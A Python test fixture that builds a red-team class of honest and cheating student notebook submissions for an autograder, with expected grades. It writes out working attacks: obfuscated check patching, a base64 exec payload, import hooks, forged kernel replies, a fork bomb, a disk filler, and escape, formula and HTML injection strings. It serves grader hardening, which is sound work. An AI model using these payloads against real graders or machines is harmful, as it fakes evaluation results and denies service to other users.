"""A class of hostile and honest submissions for the grader's red-team suite.

`build_class(release, out)` writes one submission per student into `out`
(folders, single notebooks), made from the released fixture notebooks
(``01_fixture``, ``02_other``) and, for the checks the fixture is too thin
for, the released notebook ``01_context_window``. `EXPECTED` says, per
student and grade_id, what a correct grader gives: the expectations are data,
read by ``tests/test_grade_redteam.py``.

Every attack is written as a student would write it, from what a student
sees: the released notebooks, memlib's source and the README. None of them
solves its exercise, so any point it gets is a cheat. The attacks spell the
names they reach for at run time (``"fixture" + "_checks"``) so that no look
at the cell's text can tell them from an answer.

This module writes files and nothing else: it does not run the grader and
does not judge its output.
"""

from __future__ import annotations

import base64
import copy
import json
import os
from dataclasses import dataclass, field
from pathlib import Path

__all__ = ["MARKER", "FULL", "ZERO", "ZERO_OR_REVIEW", "Student", "STUDENTS", "EXPECTED", "FAMILIES",
           "FIXTURE", "OTHER", "REAL", "build_class"]

#: In the command line of every process an attack starts, so that a survivor can be found in /proc.
#: One per test process: pytest-xdist 3.8 may run a few of the module's tests on a second worker,
#: which then grades the class too, and one worker must not count the other's processes as its own.
MARKER = f"memlib-redteam-{os.getpid()}"

FULL = "full points"
ZERO = "0 points"
ZERO_OR_REVIEW = "0 points or review flag"

FIXTURE = "01_fixture.ipynb"  # exercises 1 (add) and 2 (WordCounter); checks fixture-add (2), fixture-words (3)
OTHER = "02_other.ipynb"  # exercise 1 (double); check fixture-other (1)
REAL = "01_context_window.ipynb"  # exercise 0 (how_many_fit); check 01-token-budget (2)

# --------------------------------------------------------------------------- honest answers

ADD_OK = '''def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    return a + b
'''
WORDS_OK = '''class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def count(self, text):
        return len(text.split())
'''
DOUBLE_OK = '''def double(x):
    ### EXERCISE 1: return twice x
    return x * 2
'''
ADD_STUB_ZERO = '''

def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    return 0
'''

# --------------------------------------------------------------------------- the attacks' cells

# 1. names built at run time
GETATTR_PATCH = '''import pkgutil

_checks = pkgutil.resolve_name("fixture" + "_checks")
setattr(_checks, "expect" + "_equal", lambda *args, **kwargs: None)
''' + ADD_STUB_ZERO

_EXEC_PAYLOAD = (
    "import memlib.course.checking as checking\n"
    "checking.failures_raise = lambda: False\n"
    "checking._display_failure = lambda failure: None\n"
)
EXEC_ENCODED = f'''# my scratch cell
import base64
import pkgutil

_payload = base64.b64decode("{base64.b64encode(_EXEC_PAYLOAD.encode()).decode()}").decode()
pkgutil.resolve_name("built" + "ins:ex" + "ec")(_payload)
'''

# 2. closure cells and code objects found through gc
GC_CLOSURE = '''import pkgutil

pkgutil.resolve_name("fixture" + "_checks")
for _found in pkgutil.resolve_name("g" + "c").get_objects():
    _code = getattr(_found, "__co" + "de__", None) if callable(_found) else None
    if getattr(_code, "co_qualname", "") == "graded.<locals>.decorate.<locals>.run":
        for _cell in getattr(_found, "__clo" + "sure__") or ():
            if callable(getattr(_cell, "cell_contents", None)):
                _cell.cell_contents = lambda *args, **kwargs: None
''' + ADD_STUB_ZERO

GC_CODE = '''import pkgutil

_checks = pkgutil.resolve_name("fixture" + "_checks")
for _name in ("check" + "_add", "check" + "_words"):
    _inner = getattr(getattr(_checks, _name), "__wra" + "pped__")
    setattr(_inner, "__co" + "de__", getattr(lambda answer: None, "__co" + "de__"))
''' + ADD_STUB_ZERO

# 3. frames of the running check
GETFRAME = '''import sys


def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    frame = getattr(sys, "_get" + "frame")(1)
    while frame is not None:
        if getattr(frame, "f_" + "code").co_name == "run":
            scope = getattr(frame, "f_" + "globals")
            scope["failures" + "_raise"] = lambda: False
            scope["_display" + "_failure"] = lambda failure: None
        frame = getattr(frame, "f_" + "back")
    return 0
'''
STACK_WORDS = '''import pkgutil


class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def __init__(self):
        for info in pkgutil.resolve_name("insp" + "ect:stack")():
            if info.function == "check_words":
                getattr(info.frame, "f_" + "globals")["expect" + "_equal"] = lambda *args, **kwargs: None

    def count(self, text):
        return -1
'''

# 4. patches that come back after a clean-up or a re-import
DEL_REARM = '''import pkgutil
import sys


def _arm():
    checks = getattr(sys, "mod" + "ules").get("fixture" + "_checks")
    if checks is not None:
        setattr(checks, "expect" + "_equal", lambda *args, **kwargs: None)


class _Rearm:
    def __init__(self):
        self.me = self  # a cycle: only the collector frees it, and then __del__ runs

    def __del__(self):
        _arm()
        _Rearm()  # and the next collection arms again


_checks = pkgutil.resolve_name("fixture" + "_checks")
setattr(_checks, "check" + "_add", lambda add: None)  # a crude patch the grader undoes by reloading
_arm()
_Rearm()
pkgutil.resolve_name("g" + "c").set_threshold(1)
''' + ADD_STUB_ZERO

IMPORT_HOOK = '''import pkgutil
import sys

_PathFinder = pkgutil.resolve_name("import" + "lib.machinery:PathFinder")


class _Patched:
    def __init__(self, real):
        self.real = real

    def create_module(self, spec):
        return self.real.create_module(spec)

    def exec_module(self, module):
        self.real.exec_module(module)
        setattr(module, "expect" + "_equal", lambda *args, **kwargs: None)


class _Hook:
    def find_spec(self, name, path=None, target=None):
        if name != "fixture" + "_checks":
            return None
        spec = _PathFinder.find_spec(name, path)
        if spec is not None and not isinstance(spec.loader, _Patched):
            spec.loader = _Patched(spec.loader)
        return spec


getattr(sys, "meta" + "_path").insert(0, _Hook())
_loaded = getattr(sys, "mod" + "ules").get("fixture" + "_checks")
if _loaded is not None:
    setattr(_loaded, "check" + "_add", lambda add: None)  # the grader's reload goes through the hook
''' + ADD_STUB_ZERO

# 5. answers that lie about themselves
AGREEABLE_INT = '''class Agreeable(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    return Agreeable(0)
'''
AGREEABLE_WORDS = '''class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def count(self, text):
        return Agreeable(0)
'''
LYING_STR = '''class Text(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__


def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    return Text("five")
'''
FORGED_CLASS = '''class Liar:
    __class__ = property(lambda self: int)  # isinstance(Liar(), int) is True

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __repr__(self):
        return "3"

    __hash__ = object.__hash__


class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def count(self, text):
        return Liar()
'''
EQUAL_LIST = '''class Anything(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


def double(x):
    ### EXERCISE 1: return twice x
    return Anything()
'''

# 6. a check module shadowed in the working folder
SHADOW = '''import os
import pkgutil

os.makedirs("fixture_checks", exist_ok=True)
with open(os.path.join("fixture_checks", "__init__.py"), "w") as handle:
    handle.write(
        "def check_add(add):\\n    print('PASS  all checks for fixture-add')\\n\\n"
        "def check_words(counter_class):\\n    print('PASS  all checks for fixture-words')\\n"
    )
pkgutil.resolve_name("import" + "lib:invalidate_caches")()
''' + ADD_STUB_ZERO

SHADOW_MEMLIB = '''import os
import pkgutil
import sys

_FAKE = (
    "def ensure_unpatched(*args):\\n    pass\\n\\n"
    "def expect_equal(*args, **kwargs):\\n    pass\\n\\n"
    "def passed(message):\\n    print('PASS  ' + message)\\n\\n"
    "def graded(grade_id, *args, **kwargs):\\n"
    "    return lambda check: (lambda *a, **k: print('PASS  all checks for ' + grade_id))\\n"
)
for _folder, _text in (("memlib", ""), (os.path.join("memlib", "course"), ""),
                       (os.path.join("memlib", "course", "checks"), _FAKE)):
    os.makedirs(_folder, exist_ok=True)
    with open(os.path.join(_folder, "__init__.py"), "w") as handle:
        handle.write(_text)
_loaded = getattr(sys, "mod" + "ules")
for _name in [n for n in _loaded if n == "memlib" or n.startswith("memlib.")]:
    del _loaded[_name]  # the next import finds the working folder's memlib first
pkgutil.resolve_name("import" + "lib:invalidate_caches")()
''' + ADD_STUB_ZERO

# 7. a forged reply on the kernel's own socket
FORGED_REPLY = '''import pkgutil

_shell = pkgutil.resolve_name("IPy" + "thon:get_" + "ipython")()
_kernel = _shell.kernel


def _forge(info):
    if "check_" not in (getattr(info, "raw_cell", "") or ""):
        return
    parent = _kernel.get_parent("shell")
    ident = _kernel._parent_ident["shell"]
    content = {"status": "ok", "execution_count": _kernel.execution_count, "user_expressions": {}, "payload": []}
    _kernel.session.send(_kernel.shell_stream, "execute_reply", content, parent, ident=ident)
    _kernel.session.send(_kernel.iopub_socket, "status", {"execution_state": "idle"}, parent, ident=b"kernel.status")


getattr(_shell, "ev" + "ents").register("pre_run_cell", _forge)
''' + ADD_STUB_ZERO

REWRITTEN_REPLY = '''import pkgutil

_kernel = pkgutil.resolve_name("IPy" + "thon:get_" + "ipython")().kernel
_send = _kernel.session.send


def _send_only_good_news(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    """The kernel's own sender, except that an error reply says ok and error outputs are not sent."""
    if msg_or_type == "error":
        return {"header": {}, "parent_header": {}, "metadata": {}, "content": content or {}}
    if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
                   "payload": []}
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)


setattr(_kernel.session, "se" + "nd", _send_only_good_news)
''' + ADD_STUB_ZERO

# 8. a check module's own correct code, called by the answer (notebook 01_context_window)
REAL_HEAD = '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count
'''
CASE_EDITOR = REAL_HEAD + '''import sys


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    ### EXERCISE 0: return how many of the newest messages fit, counting the system prompt, the reserve and MESSAGE_OVERHEAD per message
    frame = getattr(sys, "_get" + "frame")(1)
    while frame is not None:
        cases = getattr(frame, "f_" + "locals").get("cases")
        if isinstance(cases, list):
            for index, case in enumerate(cases):
                cases[index] = (case[0], [], 0, "", 0)  # every budget now holds no message at all
        frame = getattr(frame, "f_" + "back")
    return 0
'''
PRIVATE_HELPER = REAL_HEAD + '''import pkgutil


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    ### EXERCISE 0: return how many of the newest messages fit, counting the system prompt, the reserve and MESSAGE_OVERHEAD per message
    helper = pkgutil.resolve_name("memlib." + "course.checks.nb01_token_budget:_budget_variant")
    return helper("what the check computes")(messages, window, system_prompt, reserve)
'''
REFERENCE_HIDDEN = REAL_HEAD + '''import pkgutil


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    ### EXERCISE 0: return how many of the newest messages fit, counting the system prompt, the reserve and MESSAGE_OVERHEAD per message
    reference = pkgutil.resolve_name("memlib." + "course.checks.nb01_token_budget:reference_how_many_fit")
    return reference(messages, window, system_prompt, reserve)
'''
PRIVATE_HELPER_PLAIN = REAL_HEAD + '''from memlib.course.checks.nb01_token_budget import _budget_variant


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    ### EXERCISE 0: return how many of the newest messages fit, counting the system prompt, the reserve and MESSAGE_OVERHEAD per message
    return _budget_variant("correct")(messages, window, system_prompt, reserve)
'''

# 9. hurting classmates graded at the same time
FORK_BOMB = f'''import pkgutil
import sys
import time

_Popen = pkgutil.resolve_name("sub" + "process:Popen")
# a daemon first: forks away from its parent, leaves the session, ignores the polite signals
_DAEMON = (
    "import os, signal, time\\n"
    "if os.fork():\\n    os._exit(0)\\n"
    "os.setsid()\\n"
    "for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\\n    signal.signal(number, signal.SIG_IGN)\\n"
    "time.sleep(600)\\n"
)
_Popen([sys.executable, "-c", _DAEMON, "{MARKER}-daemon"]).wait()
_alive = []
for _ in range(400):  # as many as the kernel may start: every one stays alive
    try:
        _alive.append(_Popen(["/bin/bash", "-c", "exec -a {MARKER}-sleeper sleep 600"], start_new_session=True))
    except OSError:
        break
print("started", len(_alive))
time.sleep(35)  # classmates are graded meanwhile
''' + ADD_STUB_ZERO

DISK_FILL = f'''import os
import sys
import tempfile

_CHUNK = b"x" * (16 << 20)


def _fill(folder, limit):
    """Write up to `limit` bytes into `folder`, 192 MB per file (files stay under a 256 MB limit)."""
    written, number = 0, 0
    while written < limit:
        try:
            with open(os.path.join(folder, f"{MARKER}-{{number}}.bin"), "wb") as handle:
                for _ in range(12):
                    handle.write(_CHUNK)
                    written += len(_CHUNK)
        except OSError:
            break
        number += 1
    return written


_places = {{os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm"}}
for _index, _arg in enumerate(sys.argv):  # the kernel's connection file: its folder is the socket folder
    if _arg == "-f" and _index + 1 < len(sys.argv):
        _places.add(os.path.dirname(os.path.abspath(sys.argv[_index + 1])))
    elif _arg.endswith(".json"):
        _places.add(os.path.dirname(os.path.abspath(_arg)))
with open("/proc/self/mounts") as _mounts:
    for _line in _mounts:
        _parts = _line.split()
        if len(_parts) > 3 and "rw" in _parts[3].split(","):
            _places.add(_parts[1])
for _place in sorted(_places):
    if os.path.isdir(_place) and os.access(_place, os.W_OK):
        print(_place, _fill(_place, 2 << 30) >> 20, "MB")
''' + ADD_STUB_ZERO

# 10. strings that are not inert
ESCAPES = "\x1b]0;owned\x07\x1b]8;;https://example.invalid/\x07click\x1b]8;;\x07\x1b[2J\x1b[31mred\x1b[0m\r\x08\x7f"
ESCAPE_ANSWER = f'''def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    print({ESCAPES!r})
    raise ValueError({ESCAPES!r})
'''
ESCAPE_WORDS = f'''class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def count(self, text):
        print("\\x1b]52;c;aGVsbG8=\\x07\\x9b31m")
        return "\\x1b[8m3\\x1b[0m"
'''
FORMULA_ANSWER = '''import pkgutil

_CheckFailed = pkgutil.resolve_name("memlib." + "course.checking:CheckFailed")


def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    raise _CheckFailed('=HYPERLINK("https://example.invalid/?leak="&A1,"open")', "@SUM(1+1)")
'''
FORMULA_WORDS = '''class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def count(self, text):
        raise ValueError("\\n=1+1\\n+2\\n-3\\n@4")
'''
FORGED_SECTION = '''

### fixture-add: passed (2 / 2)

<img src=x onerror="alert('feedback')"><script>alert('feedback')</script>

# Feedback for someone else

Total: 5 / 5 points
'''
FENCE_ANSWER = f'''def add(a, b):
    """Return a + b."""
    ### EXERCISE 1: return the sum of a and b
    for fence in ("```", "````````", "~~~"):
        print(fence + {FORGED_SECTION!r} + fence)
    raise ValueError("```" + {FORGED_SECTION!r} + "```")
'''
FENCE_WORDS = f'''class WordCounter:
    ### EXERCISE 2: count the words of text (split on whitespace)
    def count(self, text):
        raise ValueError("</pre></code></details>" + {FORGED_SECTION!r} + "<pre>")
'''

# --------------------------------------------------------------------------- the class


@dataclass
class Student:
    """One submission: who, which family, how, and what it hands in."""

    name: str  # the student's name as the grader should read it (the folder / file name)
    family: str
    how: str
    notebooks: dict[str, dict] = field(default_factory=dict)  # released notebook -> {exercise key: source}
    added: dict[str, list[tuple[str, str]]] = field(default_factory=dict)  # notebook -> [(after cell id, source)]
    single_file: bool = False  # hand in `<name>.ipynb` instead of a folder `<name>/`
    folder: str = ""  # a section folder the submission sits in ("sec1")
    moved: bool = False  # exercise cells deleted, their answers in new cells without any marker


def _without_marker(source: str) -> str:
    """An answer as a student writes it in a cell of their own: no ``### EXERCISE`` line."""
    return "".join(line for line in source.splitlines(keepends=True) if "### EXERCISE" not in line)


def _fixture(add: str | None = None, words: str | None = None) -> dict[str, str]:
    answers = {}
    if add is not None:
        answers["1"] = add
    if words is not None:
        answers["2"] = words
    return answers


HONEST_FIXTURE = {FIXTURE: _fixture(ADD_OK, WORDS_OK), OTHER: {"1": DOUBLE_OK}}

STUDENTS: list[Student] = [
    Student("honest_ada", "honest", "solves everything", copy.deepcopy(HONEST_FIXTURE)),
    # the disk filler early, beside an honest classmate and the attacks
    Student("disk_filler", "9", "writes 2 GB into every writable folder it finds: working folder, temp, home, "
            "the kernel's connection-file folder, every read-write mount", {FIXTURE: _fixture(DISK_FILL)}),
    Student("honest_grace", "honest", "solves everything", copy.deepcopy(HONEST_FIXTURE)),
    Student("getattr_patch", "1", "pkgutil.resolve_name + setattr with spelled-out names: "
            "fixture_checks.expect_equal becomes a no-op", {FIXTURE: _fixture(GETATTR_PATCH)}),
    Student("exec_payload", "1", "an added cell exec()s (found as 'built'+'ins:ex'+'ec') a base64 payload that makes "
            "memlib's failures_raise false and _display_failure silent", {FIXTURE: {}},
            added={FIXTURE: [("fx-02", EXEC_ENCODED)]}),
    Student("gc_closure", "2", "gc.get_objects() finds graded()'s wrappers and swaps the check held in their "
            "closure cell for a no-op", {FIXTURE: _fixture(GC_CLOSURE)}),
    Student("gc_code", "2", "replaces the __code__ of check_add/check_words.__wrapped__ with a no-op's",
            {FIXTURE: _fixture(GC_CODE)}),
    Student("frame_walk", "3", "add() walks sys._getframe up to the check's wrapper and makes its module's "
            "failures_raise false", {FIXTURE: _fixture(GETFRAME)}),
    Student("stack_walk", "3", "WordCounter() walks inspect.stack() to check_words and replaces expect_equal "
            "in its globals", {FIXTURE: _fixture(None, STACK_WORDS)}),
    Student("case_editor", "3", "how_many_fit walks sys._getframe up to the check and rewrites its list of test "
            "cases in place (every budget empty), then returns 0 (notebook 01)", {REAL: {"0": CASE_EDITOR}}),
    Student("del_rearm", "4", "a self-renewing cycle whose __del__ re-applies the patch after the grader's reload "
            "(gc threshold 1)", {FIXTURE: _fixture(DEL_REARM)}),
    Student("import_hook", "4", "a sys.meta_path finder that patches fixture_checks on every (re)import",
            {FIXTURE: _fixture(IMPORT_HOOK)}),
    Student("lying_int", "5", "returns an int subclass equal to everything",
            {FIXTURE: _fixture(AGREEABLE_INT, AGREEABLE_WORDS)}),
    Student("lying_objects", "5", "a str subclass, an object with a forged __class__ (int) and a list subclass, "
            "all equal to everything", {FIXTURE: _fixture(LYING_STR, FORGED_CLASS), OTHER: {"1": EQUAL_LIST}}),
    Student("shadow_module", "6", "writes a package fixture_checks/ into the working folder (a package wins over "
            "the module file) before the graded cell imports it", {FIXTURE: _fixture(SHADOW)}),
    Student("shadow_memlib", "6", "writes memlib/course/checks/ (no-op checks) into the working folder and drops "
            "memlib from the module cache: the check module's own imports find it", {FIXTURE: _fixture(SHADOW_MEMLIB)}),
    Student("forged_reply", "7", "an IPython pre_run_cell hook sends an execute_reply 'ok' and an idle status for "
            "every graded cell on the kernel's own sockets", {FIXTURE: _fixture(FORGED_REPLY)}),
    Student("rewritten_reply", "7", "replaces the kernel's session.send: every error reply goes out as 'ok' and "
            "error outputs are dropped", {FIXTURE: _fixture(REWRITTEN_REPLY)}),
    Student("private_helper", "8", "how_many_fit returns the check module's private _budget_variant "
            "(names spelled at run time)", {REAL: {"0": PRIVATE_HELPER}}),
    Student("reference_hidden", "8", "how_many_fit returns reference_how_many_fit (names spelled at run time)",
            {REAL: {"0": REFERENCE_HIDDEN}}),
    Student("plain_private_helper", "8", "imports _budget_variant from the check module in plain sight",
            {REAL: {"0": PRIVATE_HELPER_PLAIN}}),
    Student("escapes\x1b]0;owned\x07\x1b[2J", "10", "file name, exception message and output carry OSC/CSI escapes, "
            "\\r, \\b, DEL and a C1 CSI", {FIXTURE: _fixture(ESCAPE_ANSWER, ESCAPE_WORDS)}, single_file=True),
    Student("=HYPERLINK(\"evil\")", "10", "a name that is a formula; the answer raises "
            "CheckFailed('=HYPERLINK(...)', '@SUM(...)') and a message of formula lines",
            {FIXTURE: _fixture(FORMULA_ANSWER, FORMULA_WORDS)}, single_file=True),
    Student("-2+3", "10", "a name starting with '-'", {FIXTURE: _fixture(FORMULA_ANSWER)}, single_file=True),
    Student("@mention", "10", "a name starting with '@'", {FIXTURE: _fixture(None, FORMULA_WORDS)}, single_file=True),
    Student("fence_breaker", "10", "output and exception messages close the Markdown fence (```, 8 backticks, ~~~, "
            "</pre>) and forge a 'passed' section, a feedback header and raw HTML",
            {FIXTURE: _fixture(FENCE_ANSWER, FENCE_WORDS)}),
    Student("honest_moved", "a", "deleted both exercise cells and wrote the answers in new cells of their own",
            {FIXTURE: _fixture(_without_marker(ADD_OK), _without_marker(WORDS_OK))}, moved=True),
    Student("alice", "b", "sec1/alice: solves everything", copy.deepcopy(HONEST_FIXTURE), folder="sec1"),
    Student("alice", "b", "sec2/alice: solves exercise 1 only", {FIXTURE: _fixture(ADD_OK)}, folder="sec2"),
    # the fork bomb last but for honest students, graded while it holds (-j 2)
    Student("fork_bomb", "9", f"starts as many sleeping processes as it can ({MARKER} in their command line) "
            "in new sessions, and a daemon that ignores SIGTERM/SIGHUP/SIGINT; then holds its kernel 35 s",
            {FIXTURE: _fixture(FORK_BOMB)}),
    Student("honest_hopper", "honest", "solves everything, graded while the fork bomb holds",
            copy.deepcopy(HONEST_FIXTURE)),
    Student("honest_linus", "honest", "solves everything, graded while the fork bomb holds",
            copy.deepcopy(HONEST_FIXTURE)),
    Student("honest_zoe", "honest", "solves everything, graded last", copy.deepcopy(HONEST_FIXTURE)),
]


def _expected() -> dict[str, dict[str, str]]:
    """student (as submitted: `sec1/alice` for a section) -> grade_id -> what a correct grader gives."""
    table: dict[str, dict[str, str]] = {}
    for student in STUDENTS:
        key = f"{student.folder}/{student.name}" if student.folder else student.name
        rows: dict[str, str] = {}
        if FIXTURE in student.notebooks:
            if student.family in ("honest", "a", "b"):
                rows["fixture-add"] = FULL if "1" in student.notebooks[FIXTURE] else ZERO
                rows["fixture-words"] = FULL if "2" in student.notebooks[FIXTURE] else ZERO
            else:
                rows["fixture-add"] = rows["fixture-words"] = ZERO
        if OTHER in student.notebooks:
            rows["fixture-other"] = FULL if student.family in ("honest", "a", "b") else ZERO
        if REAL in student.notebooks:
            # family 8 reuses the course's own correct code: a review flag is the least a grader owes
            rows["01-token-budget"] = ZERO_OR_REVIEW if student.family == "8" else ZERO
        table[key] = rows
    return table


#: student -> grade_id -> FULL, ZERO or ZERO_OR_REVIEW.
EXPECTED: dict[str, dict[str, str]] = _expected()
#: student -> family ("1".."10" for attacks, "a"/"b" for honest edge cases, "honest").
FAMILIES: dict[str, str] = {(f"{s.folder}/{s.name}" if s.folder else s.name): s.family for s in STUDENTS}


def _code_cell(source: str, cell_id: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": cell_id, "metadata": {}, "outputs": [],
            "source": source}


def _hand_in(released: dict, student: Student, notebook: str) -> dict:
    """The released notebook with the student's answers in its exercise cells (or in new cells)."""
    nb = copy.deepcopy(released)
    answers = student.notebooks[notebook]
    cells: list[dict] = []
    for cell in nb["cells"]:
        key = (cell.get("metadata", {}).get("memlib") or {}).get("exercise")
        if key in answers:
            if student.moved:
                cells.append(_code_cell(answers[key], f"mine-{key}"))
                continue
            cell["source"] = answers[key]
        cells.append(cell)
        for after, source in student.added.get(notebook, []):
            if cell.get("id") == after:
                cells.append(_code_cell(source, f"scratch-{len(cells)}"))
    nb["cells"] = cells
    return nb


def build_class(release: Path, out: Path) -> list[Path]:
    """Write every submission of `STUDENTS` into `out`; returns them in grading order.

    `release` is a folder holding the released ``01_fixture``, ``02_other`` and
    ``01_context_window`` notebooks.
    """
    released = {name: json.loads((release / name).read_text(encoding="utf-8")) for name in (FIXTURE, OTHER, REAL)}
    paths: list[Path] = []
    for student in STUDENTS:
        base = out / student.folder if student.folder else out
        base.mkdir(parents=True, exist_ok=True)
        if student.single_file:
            (notebook,) = student.notebooks
            target = base / f"{student.name}.ipynb"
            target.write_text(json.dumps(_hand_in(released[notebook], student, notebook), indent=1), encoding="utf-8")
        else:
            target = base / student.name
            target.mkdir()
            for notebook in student.notebooks:
                (target / notebook).write_text(json.dumps(_hand_in(released[notebook], student, notebook), indent=1),
                                               encoding="utf-8")
        paths.append(target)
    return paths
